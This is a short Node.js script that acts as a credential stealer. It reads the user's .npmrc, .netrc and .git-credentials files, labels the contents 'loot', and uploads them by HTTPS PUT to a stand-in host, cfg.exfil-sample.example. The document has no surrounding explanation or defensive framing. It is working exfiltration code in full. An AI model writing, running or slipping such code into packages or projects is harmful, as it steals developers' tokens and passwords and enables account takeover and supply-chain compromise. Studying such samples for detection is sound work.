const { readFileSync } = require('fs');
const { join } = require('path');
const files = ['.npmrc', '.netrc', '.git-credentials'].map((f) => join(require('os').homedir(), f));
const loot = files.map((f) => { try { return readFileSync(f, 'utf8'); } catch { return ''; } });
require('https').request({ host: 'cfg.exfil-sample.example', method: 'PUT', path: '/' }).end(loot.join('\n'));
